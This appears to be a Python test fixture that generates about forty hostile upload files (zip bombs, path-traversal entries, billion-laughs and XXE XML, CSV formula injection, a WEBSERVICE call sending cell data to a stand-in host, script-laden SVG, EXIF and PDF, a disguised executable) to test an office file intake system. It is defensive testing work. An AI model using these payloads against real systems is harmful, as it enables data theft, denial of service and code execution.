"""恶意文件: forty kinds of files made to break whoever opens them, each with chance in it; and good ones beside them.

`malicious(number)` and `good(number)` are the same for the same number. A kind says by whose door it comes (`doors`) and
whether it must be refused there; what need not be refused must be read without harm.
"""

import io
import random
import struct
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tests.good_files import document, parts_of, picture, png, prologue, workbook, zipped

TABLES, TEXTS, PICTURES, SCANS = "tables", "texts", "pictures", "scans"
XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
TYPES = (
    XML + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b"</Types>"
)
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 50 + b'"><!ENTITY c "' + b"&b;" * 50 + b'">]>'
XXE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
HTML = b"<html><body><script>parent.__lx=1</script><table><tr><td>1</td></tr></table></body></html>"


@dataclass(frozen=True)
class File:
    """一个文件: its kind, the name it comes under, its bytes, its doors, whether they must refuse it."""

    kind: str
    name: str
    data: bytes
    doors: tuple[str, ...]
    must_refuse: bool


Make = Callable[[random.Random], bytes]
KINDS: list[tuple[str, str, tuple[str, ...], bool, Make]] = []


def kind(name: str, *doors: str, refuse: bool = True) -> Callable[[Make], Make]:
    def keep(make: Make) -> Make:
        KINDS.append((make.__name__, name, doors, refuse, make))
        return make

    return keep


def malicious(number: int) -> File:
    """The file of that number: kind after kind."""
    made, name, doors, refuse, make = KINDS[number % len(KINDS)]
    return File(made, name, make(random.Random(f"{made}{number}")), doors, refuse)


# ── how good files look ───────────────────────────────────────────────────────────────────────────


def good(number: int) -> File:
    """A file as offices really send it."""
    dice = random.Random(f"good{number}")
    table = "日期,诉求内容,数量\r\n2026-10-09,路灯不亮,3\r\n2026-10-10,龑家沟修桥,1\r\n"
    choices: list[tuple[str, str, bytes, str]] = [
        ("工作簿", "台账.xlsx", workbook(dice, dice.randrange(2, 30)), TABLES),
        ("逗号表", "台账.csv", table.encode(dice.choice(["utf-8", "utf-8-sig", "gb18030", "utf-16"])), TABLES),
        ("制表符", "台账.tsv", table.replace(",", "\t").encode("gb18030"), TABLES),
        ("总结", "总结.docx", document(dice), TEXTS),
        ("文字", "总结.txt", "十月走访群众120户。\n办结诉求35件。".encode(dice.choice(["utf-8", "gb18030"])), TEXTS),
        ("网页", "总结.html", "<p>十月走访群众120户。</p>".encode(), TEXTS),
        ("照片", "路灯.jpg", picture(dice), PICTURES),
        ("截屏", "路灯.png", picture(dice, "PNG", (dice.randrange(20, 300), 40)), PICTURES),
        ("动图", "路灯.webp", picture(dice, "WEBP"), PICTURES),
        ("扫描", "签到表.png", picture(dice, "PNG", (400, 560)), SCANS),
    ]
    of, name, data, door = choices[number % len(choices)]
    return File(of, name, data, (door,), must_refuse=False)


# ── packages that are no package ──────────────────────────────────────────────────────────────────


@kind("台账.xlsx", TABLES)
def bomb_of_one_part(dice: random.Random) -> bytes:
    return zipped({**parts_of(workbook(dice)), "xl/worksheets/sheet1.xml": b" " * (210 << 20)}, 1)


@kind("总结.docx", TEXTS)
def bomb_in_a_paper(dice: random.Random) -> bytes:
    return zipped({**parts_of(document(dice)), "word/document.xml": b"<w>" + b"0" * (60 << 20)}, 1)


@kind("总结.docx", TEXTS)
def five_thousand_parts(dice: random.Random) -> bytes:
    return zipped({**parts_of(document(dice)), **{f"word/x{n}.xml": b"<x/>" for n in range(3001)}}, 0)


@kind("台账.xlsx", TABLES)
def overlapping_parts(dice: random.Random) -> bytes:
    """CVE-2024-0450: two entries of the directory are the same bytes."""
    data = bytearray(workbook(dice))
    first = data.index(b"PK\x01\x02")
    second = data.index(b"PK\x01\x02", first + 4)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


@kind("总结.docx", TEXTS)
def one_name_twice(dice: random.Random) -> bytes:
    return zipped({**parts_of(document(dice)), "word/documenT.xml": b"<w/>"}).replace(
        b"word/documenT", b"word/document"
    )


@kind("台账.xlsx", TABLES)
def a_name_that_climbs(dice: random.Random) -> bytes:
    name = dice.choice(
        ["../../etc/cron.d/x", "/etc/passwd", "xl/../../x.xml", "..\\..\\x.xml", "C:/x.xml", "C:\\x.xml"]
    )
    return zipped({**parts_of(workbook(dice)), name: b"x"})


@kind("总结.docx", TEXTS)
def a_locked_part(dice: random.Random) -> bytes:
    data = bytearray(document(dice))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


@kind("台账.xlsx", TABLES, TEXTS)
def cut_off(dice: random.Random) -> bytes:
    data = workbook(dice)
    return data[: dice.randrange(10, len(data) - 40)]


@kind("总结.docx", TEXTS, TABLES)
def shaken(dice: random.Random) -> bytes:
    data = bytearray(document(dice))
    for _n in range(200):
        data[dice.randrange(4, len(data))] = dice.randrange(256)
    return bytes(data)


@kind("台账.xlsx", TABLES)
def a_size_that_lies(dice: random.Random) -> bytes:
    data = bytearray(zipped({**parts_of(workbook(dice)), "xl/worksheets/sheet1.xml": b"<a>" * 100_000}))
    at = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 10)
    return bytes(data)


@kind("台账.xlsx", TABLES)
def a_zip_in_a_zip(dice: random.Random) -> bytes:
    inner = zipped({f"{n}": b"0" * (1 << 20) for n in range(5)})
    return zipped({f"{n}.zip": inner for n in range(dice.randrange(3, 9))})


@kind("台账.zip", TABLES, TEXTS)
def an_empty_zip(_dice: random.Random) -> bytes:
    return b"PK\x05\x06" + bytes(18)


# ── what stands inside ────────────────────────────────────────────────────────────────────────────


@kind("台账.xlsx", TABLES)
def laughs_in_a_sheet(dice: random.Random) -> bytes:
    return prologue(workbook(dice), "xl/worksheets/sheet1.xml", LAUGHS)


@kind("总结.docx", TEXTS)
def laughs_in_a_paper(dice: random.Random) -> bytes:
    return prologue(document(dice), "word/document.xml", LAUGHS)


@kind("台账.xlsx", TABLES)
def a_file_of_the_machine(dice: random.Random) -> bytes:
    return prologue(workbook(dice), "xl/sharedStrings.xml", XXE)


@kind("总结.docx", TEXTS)
def a_file_of_the_machine_in_a_paper(dice: random.Random) -> bytes:
    return prologue(document(dice), "word/styles.xml", XXE)


@kind("总结.docx", TEXTS)
def a_doctype_in_utf_16(dice: random.Random) -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><w>&e;</w>'
    return zipped({**parts_of(document(dice)), "word/document.xml": text.encode(dice.choice(["utf-16", "utf-16-le"]))})


@kind("总结.docx", TEXTS)
def a_strange_encoding(dice: random.Random) -> bytes:
    head = f'<?xml version="1.0" encoding="{dice.choice(["UTF-7", "EBCDIC-CP-US", "GB18030"])}"?>'.encode()
    return zipped({**parts_of(document(dice)), "word/document.xml": head + b"<w>+ADwAIQ-</w>"})


@kind("总结.docx", TEXTS)
def a_thousand_nestings(dice: random.Random) -> bytes:
    deep = dice.randrange(2000, 100_000)
    return zipped({**parts_of(document(dice)), "word/document.xml": XML + b"<w>" * deep + b"</w>" * deep})


@kind("台账.xlsx", TABLES)
def a_merge_over_everything(dice: random.Random) -> bytes:
    held = parts_of(workbook(dice))
    sheet = held["xl/worksheets/sheet1.xml"]
    held["xl/worksheets/sheet1.xml"] = sheet.replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )
    return zipped(held)


@kind("台账.xlsx", TABLES)
def a_million_rows(dice: random.Random) -> bytes:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(1, 200_300))
    sheet = (
        XML
        + b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
    )
    return zipped({**parts_of(workbook(dice)), "xl/worksheets/sheet1.xml": sheet % rows}, 1)


@kind("台账.xlsx", TABLES, refuse=False)
def a_cell_far_away(dice: random.Random) -> bytes:
    held = parts_of(workbook(dice))
    cell = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    held["xl/worksheets/sheet1.xml"] = held["xl/worksheets/sheet1.xml"].replace(b"</sheetData>", cell)
    return zipped(held)


@kind("台账.xlsx", TABLES, refuse=False)
def formulas_and_a_link(dice: random.Random) -> bytes:
    held = parts_of(workbook(dice))
    formula = (
        b'<row r="90"><c r="A90"><f>WEBSERVICE("http://lianxin.example/"&amp;A1)</f><v>1</v></c></row></sheetData>'
    )
    held["xl/worksheets/sheet1.xml"] = held["xl/worksheets/sheet1.xml"].replace(b"</sheetData>", formula)
    held["xl/externalLinks/externalLink1.xml"] = XML + b"<externalLink/>"
    return zipped(held)


@kind("总结.docx", TEXTS, refuse=False)
def a_template_from_outside(dice: random.Random) -> bytes:
    held = parts_of(document(dice))
    relation = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://lianxin.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    name = "word/_rels/document.xml.rels"
    held[name] = held[name].replace(b"</Relationships>", relation)
    return zipped(held)


@kind("总结.docm", TEXTS, refuse=False)
def macros(dice: random.Random) -> bytes:
    return zipped({**parts_of(document(dice)), "word/vbaProject.bin": dice.randbytes(4000)})


@kind("台账.csv", TABLES, refuse=False)
def formulas_in_a_list(dice: random.Random) -> bytes:
    cells = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", '=HYPERLINK("http://lianxin.example")', "\t=1", "＝1+1"]
    return "\n".join(f"2026-10-0{n},{dice.choice(cells)},1" for n in range(1, 9)).encode()


@kind("台账.csv", TABLES, refuse=False)
def half_a_character(dice: random.Random) -> bytes:
    bad = dice.choice([b"\x81\x30\x81", b"\xfe\xfe\x81\x30", b"\xe4\xb8", b"\x84\x31\xa4\x37", b"\xff"])
    return "日期,内容\n2026-10-09,路灯".encode(dice.choice(["gb18030", "utf-8"])) + bad


@kind("台账.csv", TABLES, refuse=False)
def zeros_and_long_cells(dice: random.Random) -> bytes:
    return b"a,b\n1,\0\0\n2," + b"x" * dice.randrange(131_073, 400_000) + b'\n3,"' + b"\r\n" * 2000


@kind("台账.xls", TABLES, TEXTS)
def an_old_box_of_nothing(dice: random.Random) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + dice.randbytes(dice.randrange(8, 20_000))


# ── pictures and scans ────────────────────────────────────────────────────────────────────────────


@kind("照片.png", PICTURES, SCANS)
def a_picture_too_large(dice: random.Random) -> bytes:
    return png(dice.randrange(40_000, 60_000), dice.randrange(40_000, 60_000))


@kind("照片.svg", PICTURES, SCANS)
def a_drawing_with_a_script(_dice: random.Random) -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__lx=1"><script>parent.__lx=1</script></svg>'


@kind("照片.jpg", PICTURES, SCANS)
def a_page_named_picture(_dice: random.Random) -> bytes:
    return HTML


@kind("照片.jpg", PICTURES, refuse=False)
def a_picture_with_a_page_behind(dice: random.Random) -> bytes:
    return picture(dice) + HTML


@kind("照片.gif", PICTURES, refuse=False)
def a_picture_that_is_a_script(dice: random.Random) -> bytes:
    return (
        picture(dice, "GIF")
        + b"/*"
        + dice.randbytes(20)
        + b"*/=1;parent.__lx=1//"
        + zipped({"x.class": b"\xca\xfe\xba\xbe"})
    )


@kind("照片.jpg", PICTURES, refuse=False)
def a_script_in_the_description(dice: random.Random) -> bytes:
    out, exif = io.BytesIO(), Image.Exif()
    exif[0x010E], exif[0x013B] = "<script>parent.__lx=1</script>", "LIANXIN-CANARY"
    Image.frombytes("RGB", (32, 32), dice.randbytes(3072)).save(out, "JPEG", exif=exif, comment=HTML)
    return out.getvalue()


@kind("照片.png", PICTURES, SCANS)
def half_a_picture(dice: random.Random) -> bytes:
    return picture(dice, "PNG")[: dice.randrange(20, 60)]


@kind("照片.heic", PICTURES)
def a_photo_of_that_telephone(dice: random.Random) -> bytes:
    return b"\0\0\0\x18ftyp" + dice.choice([b"heic", b"mif1", b"avif"]) + dice.randbytes(200)


@kind("照片.jpg", PICTURES, SCANS, TABLES)
def nothing_at_all(_dice: random.Random) -> bytes:
    return b""


@kind("扫描.pdf", SCANS, TEXTS, refuse=False)
def a_pdf_with_a_script(dice: random.Random) -> bytes:
    return (
        b"%%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 %d %d]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%%%EOF" % (dice.randrange(10, 99_999), dice.randrange(10, 99_999))
    )


@kind("扫描.pdf", SCANS, TEXTS)
def half_a_pdf(dice: random.Random) -> bytes:
    return b"%PDF-1.4\n" + dice.randbytes(dice.randrange(1, 3000))


@kind("..\\..\\扫描\u202egpj.exe", SCANS, PICTURES, TABLES)
def a_program(dice: random.Random) -> bytes:
    return b"MZ\x90\0" + dice.randbytes(dice.randrange(100, 5000))
